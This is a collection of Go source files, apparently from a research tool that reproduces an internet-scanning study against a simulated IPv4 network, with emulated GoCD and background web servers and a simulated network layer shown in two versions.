			writeJSON(w, http.StatusUnauthorized, map[string]string{"message": "You are not authenticated"}, false)
			return
		}
		if r.Method != http.MethodPost {
			writeJSON(w, http.StatusMethodNotAllowed, map[string]string{"message": "POST required"}, false)
			return
		}
		var body struct {
			Pipeline struct {
				Name   string `json:"name"`
				Stages []struct {
					Jobs []struct {
						Tasks []struct {
							Command string `json:"command"`
						} `json:"tasks"`
					} `json:"jobs"`
				} `json:"stages"`
			} `json:"pipeline"`
		}
		if err := decodeJSON(w, r, &body); err != nil {
			writeJSON(w, http.StatusBadRequest, map[string]string{"message": err.Error()}, false)
			return
		}
		for _, st := range body.Pipeline.Stages {
			for _, j := range st.Jobs {
				for _, t := range j.Tasks {
					if t.Command != "" {
						inst.recordExec(r, "pipeline-task", t.Command)
					}
				}
			}
		}
		writeJSON(w, http.StatusOK, map[string]string{"message": "created"}, false)
	})
	serveAssets(mux, mav.GoCD, inst.Version())
	return mux
}
