package apps

import (
	"fmt"
	"net/http"
)

// BackgroundKind identifies a non-AWE service used to populate the
// simulated internet with realistic noise: most hosts with open web ports
// do not run any of the studied applications, and Stage II must discard
// them.
type BackgroundKind string

// The background service flavors.
const (
	BackgroundNginx   BackgroundKind = "nginx"
	BackgroundApache  BackgroundKind = "apache"
	BackgroundIIS     BackgroundKind = "iis"
	BackgroundRESTAPI BackgroundKind = "rest-api"
	BackgroundEmpty   BackgroundKind = "empty"
	BackgroundRouter  BackgroundKind = "router"
)

// BackgroundKinds lists all background service flavors.
func BackgroundKinds() []BackgroundKind {
	return []BackgroundKind{
		BackgroundNginx, BackgroundApache, BackgroundIIS,
		BackgroundRESTAPI, BackgroundEmpty, BackgroundRouter,
	}
}

// Background returns a handler emulating a common non-AWE web service.
func Background(kind BackgroundKind) http.Handler {
	mux := http.NewServeMux()
	switch kind {
	case BackgroundNginx:
		mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Server", "nginx/1.18.0")
			htmlPage(w, http.StatusOK, "Welcome to nginx!",
				`<h1>Welcome to nginx!</h1><p>If you see this page, the nginx web server is successfully installed.</p>`)
		})
	case BackgroundApache:
		mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Server", "Apache/2.4.41 (Ubuntu)")
			htmlPage(w, http.StatusOK, "Apache2 Ubuntu Default Page: It works",
				`<h1>Apache2 Default Page</h1><p>It works!</p>`)
		})
	case BackgroundIIS:
		mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Server", "Microsoft-IIS/10.0")
			htmlPage(w, http.StatusOK, "IIS Windows Server", `<img src="iisstart.png" alt="IIS">`)
		})
	case BackgroundRESTAPI:
		mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
			writeJSON(w, http.StatusNotFound, map[string]string{"error": "not found", "service": "internal-api"}, false)
		})
		mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {
			writeJSON(w, http.StatusOK, map[string]string{"status": "healthy"}, false)
		})
	case BackgroundRouter:
		mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("WWW-Authenticate", `Basic realm="Router Administration"`)
			htmlPage(w, http.StatusUnauthorized, "401 Unauthorized", "<h1>Authorization required</h1>")
		})
	default: // BackgroundEmpty
		mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusOK)
			fmt.Fprintln(w, "OK")
		})
	}
	return mux
}
