// Package simnet implements an in-process simulated IPv4 internet.
//
// The paper scanned the live IPv4 address space; offline we substitute a
// simulated address space populated with emulated application servers. The
// simulation is deliberately low-level: dialing a host yields a real
// net.Conn (one side of a net.Pipe) served by whatever connection handler
// the host bound on that port, so real HTTP and real TLS flow over it and
// every stage of the scanning pipeline runs unmodified.
//
// simnet models exactly the connect-scan semantics the study needs:
//
//   - open/closed/filtered ports (ProbePort, the Stage-I primitive),
//   - hosts going offline or getting firewalled over time (the longevity
//     study's "offline" outcome),
//   - the "all ports appear open" network artifact the paper excluded
//     (wildcard hosts that accept every SYN but speak no HTTP).
package simnet

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strconv"
	"sync"
	"time"

	"mavscan/internal/simtime"
)

// Connection-level errors. They unwrap to net.ErrClosed-style sentinel
// values so callers can classify failures the way a real scanner would.
var (
	// ErrConnRefused is returned when the host is online but nothing
	// listens on the port (TCP RST).
	ErrConnRefused = errors.New("simnet: connection refused")
	// ErrHostUnreachable is returned when no host owns the address or the
	// host is offline (SYN timeout).
	ErrHostUnreachable = errors.New("simnet: host unreachable")
	// ErrFiltered is returned when a firewall silently drops the probe.
	ErrFiltered = errors.New("simnet: filtered")
)

// ConnHandler serves one accepted connection. Implementations must close
// the connection before returning.
type ConnHandler func(conn net.Conn)

// service is one bound port on a host.
type service struct {
	handler ConnHandler
}

// Host is a single addressable machine in the simulated internet.
type Host struct {
	ip netip.Addr

	mu         sync.RWMutex
	ports      map[int]*service
	online     bool
	firewalled bool
	// wildcardOpen marks hosts that answer every SYN (middleboxes); such
	// ports accept a connection and then immediately close it without
	// speaking any protocol.
	wildcardOpen bool
}

// NewHost returns an online host with no bound ports.
func NewHost(ip netip.Addr) *Host {
	return &Host{ip: ip, ports: make(map[int]*service), online: true}
}

// IP returns the host's address.
func (h *Host) IP() netip.Addr { return h.ip }

// Bind installs handler as the service on port, replacing any previous
// binding.
func (h *Host) Bind(port int, handler ConnHandler) {
	if handler == nil {
		panic("simnet: Bind with nil handler")
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	h.ports[port] = &service{handler: handler}
}

// Unbind removes the service on port, if any.
func (h *Host) Unbind(port int) {
	h.mu.Lock()
	defer h.mu.Unlock()
	delete(h.ports, port)
}

// Ports returns the currently bound ports in unspecified order.
func (h *Host) Ports() []int {
	h.mu.RLock()
	defer h.mu.RUnlock()
	out := make([]int, 0, len(h.ports))
	for p := range h.ports {
		out = append(out, p)
	}
	return out
}

// SetOnline marks the host reachable or unreachable (powered off).
func (h *Host) SetOnline(v bool) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.online = v
}

// Online reports whether the host answers probes at all.
func (h *Host) Online() bool {
	h.mu.RLock()
	defer h.mu.RUnlock()
	return h.online
}

// SetFirewalled silently drops all inbound probes when enabled. This models
// the out-of-band provider firewall as well as owners firewalling a
// previously exposed endpoint.
func (h *Host) SetFirewalled(v bool) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.firewalled = v
}

// Firewalled reports whether inbound traffic is dropped.
func (h *Host) Firewalled() bool {
	h.mu.RLock()
	defer h.mu.RUnlock()
	return h.firewalled
}

// SetWildcardOpen makes every port on the host accept connections without
// serving a protocol, reproducing the 3.0M "always all ports open" artifact
// hosts the paper excluded from Table 2.
func (h *Host) SetWildcardOpen(v bool) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.wildcardOpen = v
}

// WildcardOpen reports whether the host answers every SYN.
func (h *Host) WildcardOpen() bool {
	h.mu.RLock()
	defer h.mu.RUnlock()
	return h.wildcardOpen
}

// lookupService classifies a probe to (host, port).
func (h *Host) lookupService(port int) (ConnHandler, error) {
	h.mu.RLock()
	defer h.mu.RUnlock()
	switch {
	case !h.online:
		return nil, ErrHostUnreachable
	case h.firewalled:
		return nil, ErrFiltered
	}
	if svc, ok := h.ports[port]; ok {
		return svc.handler, nil
	}
	if h.wildcardOpen {
		// Accept, then hang up: a middlebox that completes the handshake
		// for every port but runs no service behind it.
		return func(conn net.Conn) { conn.Close() }, nil
	}
	return nil, ErrConnRefused
}

// Network is the simulated internet: a set of hosts addressable by IPv4
// address. The zero value is not usable; construct with New.
type Network struct {
	mu    sync.RWMutex
	hosts map[netip.Addr]*Host
	// latency is added to every successful dial; zero by default so large
	// scans run at full speed.
	latency time.Duration
	// clock paces the latency wait; tests may inject a fake Sleeper so
	// latency runs never block in real time.
	clock simtime.Sleeper
}

// New returns an empty network.
func New() *Network {
	return &Network{hosts: make(map[netip.Addr]*Host), clock: simtime.Wall{}}
}

// SetClock replaces the sleeper used to pace per-dial latency.
func (n *Network) SetClock(clock simtime.Sleeper) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.clock = clock
}

// SetLatency sets a fixed per-connection setup latency (applied on Dial).
func (n *Network) SetLatency(d time.Duration) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.latency = d
}

// AddHost registers h. Adding a second host with the same address is an
// error: the simulated space has one owner per IP.
func (n *Network) AddHost(h *Host) error {
	n.mu.Lock()
	defer n.mu.Unlock()
	if _, dup := n.hosts[h.ip]; dup {
		return fmt.Errorf("simnet: duplicate host %s", h.ip)
	}
	n.hosts[h.ip] = h
	return nil
}

// RemoveHost deletes the host at ip, if present.
func (n *Network) RemoveHost(ip netip.Addr) {
	n.mu.Lock()
	defer n.mu.Unlock()
	delete(n.hosts, ip)
}

// Host returns the host registered at ip.
func (n *Network) Host(ip netip.Addr) (*Host, bool) {
	n.mu.RLock()
	defer n.mu.RUnlock()
	h, ok := n.hosts[ip]
	return h, ok
}

// NumHosts returns the number of registered hosts.
func (n *Network) NumHosts() int {
	n.mu.RLock()
	defer n.mu.RUnlock()
	return len(n.hosts)
}

// Hosts calls fn for every registered host until fn returns false. The
// iteration order is unspecified. fn must not add or remove hosts.
func (n *Network) Hosts(fn func(h *Host) bool) {
	n.mu.RLock()
	defer n.mu.RUnlock()
	for _, h := range n.hosts {
		if !fn(h) {
			return
		}
	}
}

// ProbePort performs a half-open (SYN) probe: it reports open without
// exchanging any application data. This is the Stage-I (masscan) primitive.
func (n *Network) ProbePort(ip netip.Addr, port int) error {
	n.mu.RLock()
	h, ok := n.hosts[ip]
	n.mu.RUnlock()
	if !ok {
		return ErrHostUnreachable
	}
	_, err := h.lookupService(port)
	return err
}

// Dial establishes a full connection to (ip, port), returning the client
// side of the stream. The server side is handed to the bound ConnHandler on
// its own goroutine. The server sees an unspecified source address; use
// DialFrom when the source identity matters (honeypot monitoring records
// attacker source IPs from it).
func (n *Network) Dial(ctx context.Context, ip netip.Addr, port int) (net.Conn, error) {
	return n.DialFrom(ctx, netip.AddrFrom4([4]byte{192, 0, 2, 1}), ip, port)
}

// DialFrom is Dial with an explicit source address, visible to the server
// side as the connection's RemoteAddr.
func (n *Network) DialFrom(ctx context.Context, src, ip netip.Addr, port int) (net.Conn, error) {
	n.mu.RLock()
	h, ok := n.hosts[ip]
	latency := n.latency
	clock := n.clock
	n.mu.RUnlock()
	if !ok {
		return nil, ErrHostUnreachable
	}
	handler, err := h.lookupService(port)
	if err != nil {
		return nil, err
	}
	if latency > 0 {
		select {
		case <-clock.After(latency):
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	client, server := net.Pipe()
	// The server observes the caller's source address on an ephemeral
	// port; the client observes the dialed destination.
	go handler(&addrConn{Conn: server, remote: src, port: 0, local: ip, localPort: port})
	return &addrConn{Conn: client, remote: ip, port: port, local: src, localPort: 0}, nil
}

// DialContext adapts Dial to the signature of net.Dialer.DialContext so the
// network can be plugged into an http.Transport. Only "tcp" addresses of
// the form "ip:port" are supported.
func (n *Network) DialContext(ctx context.Context, network, address string) (net.Conn, error) {
	if network != "tcp" && network != "tcp4" {
		return nil, fmt.Errorf("simnet: unsupported network %q", network)
	}
	hostStr, portStr, err := net.SplitHostPort(address)
	if err != nil {
		return nil, fmt.Errorf("simnet: bad address %q: %w", address, err)
	}
	ip, err := netip.ParseAddr(hostStr)
	if err != nil {
		return nil, fmt.Errorf("simnet: bad host %q: %w", hostStr, err)
	}
	port, err := strconv.Atoi(portStr)
	if err != nil || port < 1 || port > 65535 {
		return nil, fmt.Errorf("simnet: bad port %q", portStr)
	}
	return n.Dial(ctx, ip, port)
}

// addrConn decorates a pipe conn with meaningful endpoint addresses so HTTP
// logs and monitoring see real identities.
type addrConn struct {
	net.Conn
	remote    netip.Addr
	port      int
	local     netip.Addr
	localPort int
}

// RemoteAddr returns the simulated peer address.
func (c *addrConn) RemoteAddr() net.Addr {
	return &net.TCPAddr{IP: c.remote.AsSlice(), Port: c.port}
}

// LocalAddr returns the simulated local address.
func (c *addrConn) LocalAddr() net.Addr {
	return &net.TCPAddr{IP: c.local.AsSlice(), Port: c.localPort}
}
