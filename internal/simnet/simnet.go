// Package simnet implements an in-process simulated IPv4 internet.
//
// The paper scanned the live IPv4 address space; offline we substitute a
// simulated address space populated with emulated application servers. The
// simulation is deliberately low-level: dialing a host yields a real
// net.Conn (one side of a net.Pipe) served by whatever connection handler
// the host bound on that port, so real HTTP and real TLS flow over it and
// every stage of the scanning pipeline runs unmodified.
//
// simnet models exactly the connect-scan semantics the study needs:
//
//   - open/closed/filtered ports (ProbePort, the Stage-I primitive),
//   - hosts going offline or getting firewalled over time (the longevity
//     study's "offline" outcome),
//   - the "all ports appear open" network artifact the paper excluded
//     (wildcard hosts that accept every SYN but speak no HTTP).
//
// The host table is a two-level atomic page table sharded by the top two
// address bytes (one shard per /16) with a cache-dense presence bitmap in
// front, and per-host state is published through atomic copy-on-write
// snapshots, so the Stage-I probe workers and the Stage-II/III HTTP
// workers never serialize on a lock: a probe costs a couple of atomic
// loads and an array index — no hashing, no locked bus operations, no
// allocations.
package simnet

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"mavscan/internal/simtime"
)

// Connection-level errors. They unwrap to net.ErrClosed-style sentinel
// values so callers can classify failures the way a real scanner would.
var (
	// ErrConnRefused is returned when the host is online but nothing
	// listens on the port (TCP RST).
	ErrConnRefused = errors.New("simnet: connection refused")
	// ErrHostUnreachable is returned when no host owns the address or the
	// host is offline (SYN timeout).
	ErrHostUnreachable = errors.New("simnet: host unreachable")
	// ErrFiltered is returned when a firewall silently drops the probe.
	ErrFiltered = errors.New("simnet: filtered")
)

// ConnHandler serves one accepted connection. Implementations must close
// the connection before returning.
type ConnHandler func(conn net.Conn)

// wildcardHandler is the service every port of a wildcard-open host
// resolves to: a middlebox that completes the handshake and immediately
// hangs up without speaking any protocol. It lives at package level so
// wildcard probes and dials never allocate a closure.
func wildcardHandler(conn net.Conn) { conn.Close() }

// hostState is one immutable snapshot of a host's externally visible
// state. Mutators publish a fresh snapshot; readers load it with a single
// atomic operation and take no locks.
type hostState struct {
	ports        map[int]ConnHandler
	online       bool
	firewalled   bool
	wildcardOpen bool
}

// Host is a single addressable machine in the simulated internet.
type Host struct {
	ip  netip.Addr
	key uint32 // ip as a big-endian word; page-table key

	mu    sync.Mutex // serializes mutators; readers go through state
	state atomic.Pointer[hostState]
}

// NewHost returns an online host with no bound ports.
func NewHost(ip netip.Addr) *Host {
	h := &Host{ip: ip}
	if k, ok := addrKey(ip); ok {
		h.key = k
	}
	st := &hostState{ports: map[int]ConnHandler{}, online: true}
	h.state.Store(st)
	return h
}

// IP returns the host's address.
func (h *Host) IP() netip.Addr { return h.ip }

// mutate publishes a new state snapshot derived from the current one. When
// clonePorts is set the port table is deep-copied first so the previous
// snapshot stays immutable for concurrent readers.
func (h *Host) mutate(clonePorts bool, f func(*hostState)) {
	h.mu.Lock()
	defer h.mu.Unlock()
	old := h.state.Load()
	next := &hostState{
		ports:        old.ports,
		online:       old.online,
		firewalled:   old.firewalled,
		wildcardOpen: old.wildcardOpen,
	}
	if clonePorts {
		next.ports = make(map[int]ConnHandler, len(old.ports)+1)
		for p, svc := range old.ports {
			next.ports[p] = svc
		}
	}
	f(next)
	h.state.Store(next)
}

// Bind installs handler as the service on port, replacing any previous
// binding.
func (h *Host) Bind(port int, handler ConnHandler) {
	if handler == nil {
		panic("simnet: Bind with nil handler")
	}
	h.mutate(true, func(st *hostState) { st.ports[port] = handler })
}

// Unbind removes the service on port, if any.
func (h *Host) Unbind(port int) {
	h.mutate(true, func(st *hostState) { delete(st.ports, port) })
}

// Ports returns the currently bound ports in ascending order.
func (h *Host) Ports() []int {
	st := h.state.Load()
	out := make([]int, 0, len(st.ports))
	for p := range st.ports {
		out = append(out, p)
	}
	sort.Ints(out)
	return out
}

// SetOnline marks the host reachable or unreachable (powered off).
func (h *Host) SetOnline(v bool) {
	h.mutate(false, func(st *hostState) { st.online = v })
}

// Online reports whether the host answers probes at all.
func (h *Host) Online() bool { return h.state.Load().online }

// SetFirewalled silently drops all inbound probes when enabled. This models
// the out-of-band provider firewall as well as owners firewalling a
// previously exposed endpoint.
func (h *Host) SetFirewalled(v bool) {
	h.mutate(false, func(st *hostState) { st.firewalled = v })
}

// Firewalled reports whether inbound traffic is dropped.
func (h *Host) Firewalled() bool { return h.state.Load().firewalled }

// SetWildcardOpen makes every port on the host accept connections without
// serving a protocol, reproducing the 3.0M "always all ports open" artifact
// hosts the paper excluded from Table 2.
func (h *Host) SetWildcardOpen(v bool) {
	h.mutate(false, func(st *hostState) { st.wildcardOpen = v })
}

// WildcardOpen reports whether the host answers every SYN.
func (h *Host) WildcardOpen() bool { return h.state.Load().wildcardOpen }

// lookupService classifies a probe to (host, port).
func (h *Host) lookupService(port int) (ConnHandler, error) {
	st := h.state.Load()
	switch {
	case !st.online:
		return nil, ErrHostUnreachable
	case st.firewalled:
		return nil, ErrFiltered
	}
	if handler, ok := st.ports[port]; ok {
		return handler, nil
	}
	if st.wildcardOpen {
		return wildcardHandler, nil
	}
	return nil, ErrConnRefused
}

// addrKey flattens an IPv4 (or IPv4-mapped) address into a map key.
func addrKey(ip netip.Addr) (uint32, bool) {
	if !ip.Is4() && !ip.Is4In6() {
		return 0, false
	}
	b := ip.As4()
	return uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3]), true
}

// The host table is a two-level page table over the 32-bit address space:
// the top two address bytes select a lazily allocated page (so the table is
// sharded 65536 ways, one shard per /16), and the low two bytes index a
// slot inside it. Every slot is an atomic pointer, so lookups are two
// atomic loads and an array index — no hashing, no locks, no locked bus
// operations — and concurrent registration is a slot CAS. A miss in an
// unpopulated /16 costs a single nil check.
const pageBits = 16

type hostPage [1 << pageBits]atomic.Pointer[Host]

// Presence bitmap. Alongside each host page the network keeps one bit per
// address recording whether a host is registered there. Scans probe vastly
// more empty addresses than live ones — the simulated space is sparse like
// the real IPv4 internet — and the bitmap answers those misses with a
// single atomic load against a structure 256× denser than the pointer
// pages (8 KiB per /16), so the miss path stays in L1/L2 cache instead of
// chasing cold pointers. Only probes to present addresses take the exact
// per-host path.
type presencePage [1 << (pageBits - 5)]atomic.Uint32

// Network is the simulated internet: a set of hosts addressable by IPv4
// address. The zero value is not usable; construct with New.
type Network struct {
	pages  [1 << (32 - pageBits)]atomic.Pointer[hostPage]
	bits   [1 << (32 - pageBits)]atomic.Pointer[presencePage]
	nhosts atomic.Int64
	// latency (nanoseconds) is added to every successful dial; zero by
	// default so large scans run at full speed.
	latency atomic.Int64
	// clock paces the latency wait; tests may inject a fake Sleeper so
	// latency runs never block in real time.
	clock atomic.Pointer[simtime.Sleeper]
	// faults, when set, is consulted on every probe and dial that would
	// otherwise succeed, so a fault plan can overlay transient failures on
	// the healthy topology (see internal/faults).
	faults atomic.Pointer[FaultInjector]
	// resolver, when set, is consulted on the page table's miss path: an
	// address with no registered host is materialized on demand (see
	// Resolver). Hits on registered hosts never touch it.
	resolver atomic.Pointer[Resolver]
}

// Resolver materializes hosts on demand. When a probe, dial, or Host lookup
// misses the page table, the network asks the resolver before declaring the
// address unreachable; a nil result means the address is genuinely empty.
// This is the hook the lazy population generator hangs the simulated world
// on: host state becomes a function of the address, computed on first
// probe, instead of a table populated up front.
//
// Implementations must be safe for concurrent use, must return the same
// *Host for concurrent lookups of the same live address, and — for
// deterministic studies — must derive host state purely from the address
// (so that evicting and re-materializing a host reproduces it exactly).
// Resolved hosts are NOT registered in the page table: the resolver owns
// their lifetime (typically a bounded cache), keeping the network's memory
// independent of the simulated population size. NumHosts, Hosts, and
// RemoveHost therefore see only explicitly registered hosts.
type Resolver interface {
	Resolve(ip netip.Addr) *Host
}

// SetResolver installs (or, with nil, removes) the miss-path resolver.
func (n *Network) SetResolver(r Resolver) {
	if r == nil {
		n.resolver.Store(nil)
		return
	}
	n.resolver.Store(&r)
}

// resolve asks the installed resolver, if any, for the host at ip.
func (n *Network) resolve(ip netip.Addr) *Host {
	p := n.resolver.Load()
	if p == nil {
		return nil
	}
	return (*p).Resolve(ip)
}

// Fault describes one transient failure to apply to a dial that would
// otherwise succeed. The zero value means "no fault". Err aborts the dial
// outright (SYN timeout → ErrHostUnreachable, reset → ErrConnRefused);
// the other fields degrade the connection instead: Latency adds one-off
// connection-setup delay, Status swaps the bound handler for one answering
// every request with that HTTP status, and Truncate cuts the server's
// response stream after that many bytes.
type Fault struct {
	Err      error
	Latency  time.Duration
	Status   int
	Truncate int
}

// FaultInjector decides, per (address, port) attempt, whether to inject a
// transient failure. The network consults it only after the target has been
// found healthy, so injected faults are always transient overlays — never
// confused with genuinely dead or firewalled hosts. Implementations must be
// safe for concurrent use; internal/faults provides the deterministic
// seeded one.
type FaultInjector interface {
	// ProbeFault returns a non-nil error to fail a ProbePort that would
	// have succeeded.
	ProbeFault(ip netip.Addr, port int) error
	// DialFault returns the fault to apply to a dial that would have
	// succeeded; the zero Fault leaves the dial untouched.
	DialFault(ip netip.Addr, port int) Fault
}

// SetFaults installs (or, with nil, removes) the network's fault injector.
func (n *Network) SetFaults(inj FaultInjector) {
	if inj == nil {
		n.faults.Store(nil)
		return
	}
	n.faults.Store(&inj)
}

func (n *Network) injector() FaultInjector {
	p := n.faults.Load()
	if p == nil {
		return nil
	}
	return *p
}

// New returns an empty network.
func New() *Network {
	n := &Network{}
	wall := simtime.Sleeper(simtime.Wall{})
	n.clock.Store(&wall)
	return n
}

// SetClock replaces the sleeper used to pace per-dial latency.
func (n *Network) SetClock(clock simtime.Sleeper) {
	n.clock.Store(&clock)
}

// SetLatency sets a fixed per-connection setup latency (applied on Dial).
func (n *Network) SetLatency(d time.Duration) {
	n.latency.Store(int64(d))
}

// page returns the page owning key k, allocating it (and its presence
// sibling) when create is set.
func (n *Network) page(k uint32, create bool) *hostPage {
	slot := &n.pages[k>>pageBits]
	pg := slot.Load()
	if pg == nil && create {
		// Publish the presence page first so a probe racing AddHost never
		// sees a host page without its bitmap sibling.
		n.bits[k>>pageBits].CompareAndSwap(nil, new(presencePage))
		fresh := new(hostPage)
		if slot.CompareAndSwap(nil, fresh) {
			return fresh
		}
		pg = slot.Load()
	}
	return pg
}

// setPresent flips the presence bit for key k. The owning page always
// exists by the time a host is attached.
func (n *Network) setPresent(k uint32, on bool) {
	bp := n.bits[k>>pageBits].Load()
	if bp == nil {
		return
	}
	w := &bp[(k&(1<<pageBits-1))>>5]
	bit := uint32(1) << (k & 31)
	for {
		old := w.Load()
		next := old | bit
		if !on {
			next = old &^ bit
		}
		if old == next || w.CompareAndSwap(old, next) {
			return
		}
	}
}

// AddHost registers h. Adding a second host with the same address is an
// error: the simulated space has one owner per IP. The simulated internet
// is IPv4-only; non-IPv4 hosts are rejected.
func (n *Network) AddHost(h *Host) error {
	k, ok := addrKey(h.ip)
	if !ok {
		return fmt.Errorf("simnet: host %s is not IPv4", h.ip)
	}
	pg := n.page(k, true)
	if !pg[k&(1<<pageBits-1)].CompareAndSwap(nil, h) {
		return fmt.Errorf("simnet: duplicate host %s", h.ip)
	}
	// The bit is published after the slot, so a probe that observes the
	// bit always finds the host.
	n.setPresent(k, true)
	n.nhosts.Add(1)
	return nil
}

// RemoveHost deletes the host at ip, if present.
func (n *Network) RemoveHost(ip netip.Addr) {
	k, ok := addrKey(ip)
	if !ok {
		return
	}
	pg := n.page(k, false)
	if pg == nil {
		return
	}
	n.setPresent(k, false)
	if old := pg[k&(1<<pageBits-1)].Swap(nil); old != nil {
		n.nhosts.Add(-1)
	}
}

// lookup resolves ip to a registered host.
func (n *Network) lookup(ip netip.Addr) (*Host, bool) {
	k, ok := addrKey(ip)
	if !ok {
		return nil, false
	}
	pg := n.pages[k>>pageBits].Load()
	if pg == nil {
		return nil, false
	}
	h := pg[k&(1<<pageBits-1)].Load()
	return h, h != nil
}

// Host returns the host at ip: a registered one, or — when a resolver is
// installed — a lazily materialized one. Use Hosts to see only registered
// hosts.
func (n *Network) Host(ip netip.Addr) (*Host, bool) {
	if h, ok := n.lookup(ip); ok {
		return h, true
	}
	if h := n.resolve(ip); h != nil {
		return h, true
	}
	return nil, false
}

// NumHosts returns the number of registered hosts.
func (n *Network) NumHosts() int {
	return int(n.nhosts.Load())
}

// Hosts calls fn for every registered host until fn returns false. The
// iteration order is unspecified. fn must not add or remove hosts.
func (n *Network) Hosts(fn func(h *Host) bool) {
	for i := range n.pages {
		pg := n.pages[i].Load()
		if pg == nil {
			continue
		}
		for j := range pg {
			if h := pg[j].Load(); h != nil {
				if !fn(h) {
					return
				}
			}
		}
	}
}

// ProbePort performs a half-open (SYN) probe: it reports open without
// exchanging any application data. This is the Stage-I (masscan)
// primitive, and the hottest call in the pipeline: probes to empty
// addresses — the overwhelming majority of a sparse scan — are answered
// from the presence bitmap with a single atomic load.
func (n *Network) ProbePort(ip netip.Addr, port int) error {
	k, ok := addrKey(ip)
	if !ok {
		return ErrHostUnreachable
	}
	var h *Host
	bp := n.bits[k>>pageBits].Load()
	if bp != nil && bp[(k&(1<<pageBits-1))>>5].Load()&(1<<(k&31)) != 0 {
		h, _ = n.lookup(ip)
	}
	if h == nil {
		// Page-table miss: give the resolver, if any, a chance to
		// materialize the host. The extra cost on the registered-world
		// miss path is one atomic nil-check.
		if h = n.resolve(ip); h == nil {
			return ErrHostUnreachable
		}
	}
	if _, err := h.lookupService(port); err != nil {
		return err
	}
	if inj := n.injector(); inj != nil {
		return inj.ProbeFault(ip, port)
	}
	return nil
}

// Dial establishes a full connection to (ip, port), returning the client
// side of the stream. The server side is handed to the bound ConnHandler on
// its own goroutine. The server sees an unspecified source address; use
// DialFrom when the source identity matters (honeypot monitoring records
// attacker source IPs from it).
func (n *Network) Dial(ctx context.Context, ip netip.Addr, port int) (net.Conn, error) {
	return n.DialFrom(ctx, netip.AddrFrom4([4]byte{192, 0, 2, 1}), ip, port)
}

// DialFrom is Dial with an explicit source address, visible to the server
// side as the connection's RemoteAddr.
func (n *Network) DialFrom(ctx context.Context, src, ip netip.Addr, port int) (net.Conn, error) {
	h, ok := n.lookup(ip)
	if !ok {
		if h = n.resolve(ip); h == nil {
			return nil, ErrHostUnreachable
		}
	}
	handler, err := h.lookupService(port)
	if err != nil {
		return nil, err
	}
	var fault Fault
	if inj := n.injector(); inj != nil {
		fault = inj.DialFault(ip, port)
		if fault.Err != nil {
			return nil, fault.Err
		}
	}
	if latency := time.Duration(n.latency.Load()) + fault.Latency; latency > 0 {
		clock := *n.clock.Load()
		select {
		case <-clock.After(latency):
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	if fault.Status != 0 {
		handler = statusBlipHandler(fault.Status)
	}
	client, server := net.Pipe()
	// The server observes the caller's source address on an ephemeral
	// port; the client observes the dialed destination.
	var serverConn net.Conn = &addrConn{Conn: server, remote: src, port: 0, local: ip, localPort: port}
	if fault.Truncate > 0 {
		serverConn = &truncatedConn{Conn: serverConn, remaining: fault.Truncate}
	}
	go handler(serverConn)
	return &addrConn{Conn: client, remote: ip, port: port, local: src, localPort: 0}, nil
}

// statusBlipHandler answers one exchange with an empty response carrying
// the given status code — the shape of a transient 5xx blip from a healthy
// server. Both ends of a net.Pipe are synchronous, so the handler must read
// the client's opening bytes before answering (or the client's own write
// would never complete), but it must only keep reading when those bytes are
// a cleartext HTTP head: a TLS ClientHello has no request head, and waiting
// for one would deadlock the dialer mid-handshake. A TLS client instead
// gets the plaintext blip, fails the handshake, and surfaces a transport
// error — still a transient, retryable fault.
func statusBlipHandler(status int) ConnHandler {
	return func(conn net.Conn) {
		defer conn.Close()
		buf := make([]byte, 4096)
		n, err := conn.Read(buf)
		head := append([]byte(nil), buf[:n]...)
		for err == nil && n > 0 && head[0] >= 'A' && head[0] <= 'Z' &&
			!bytes.Contains(head, []byte("\r\n\r\n")) {
			n, err = conn.Read(buf)
			head = append(head, buf[:n]...)
		}
		fmt.Fprintf(conn, "HTTP/1.1 %d Transient Fault\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", status)
	}
}

// truncatedConn cuts the server's response stream after a byte budget: the
// connection behaves normally until the budget is spent, then every write
// reports a reset. Reads (the request direction) are unaffected.
type truncatedConn struct {
	net.Conn
	mu        sync.Mutex
	remaining int
}

func (c *truncatedConn) Write(p []byte) (int, error) {
	c.mu.Lock()
	budget := c.remaining
	if budget > len(p) {
		budget = len(p)
	}
	c.remaining -= budget
	c.mu.Unlock()
	if budget == 0 {
		c.Conn.Close()
		return 0, ErrConnRefused
	}
	n, err := c.Conn.Write(p[:budget])
	if err == nil && n < len(p) {
		c.Conn.Close()
		err = ErrConnRefused
	}
	return n, err
}

// DialContext adapts Dial to the signature of net.Dialer.DialContext so the
// network can be plugged into an http.Transport. Only "tcp" addresses of
// the form "ip:port" are supported.
func (n *Network) DialContext(ctx context.Context, network, address string) (net.Conn, error) {
	if network != "tcp" && network != "tcp4" {
		return nil, fmt.Errorf("simnet: unsupported network %q", network)
	}
	hostStr, portStr, err := net.SplitHostPort(address)
	if err != nil {
		return nil, fmt.Errorf("simnet: bad address %q: %w", address, err)
	}
	ip, err := netip.ParseAddr(hostStr)
	if err != nil {
		return nil, fmt.Errorf("simnet: bad host %q: %w", hostStr, err)
	}
	port, err := strconv.Atoi(portStr)
	if err != nil || port < 1 || port > 65535 {
		return nil, fmt.Errorf("simnet: bad port %q", portStr)
	}
	return n.Dial(ctx, ip, port)
}

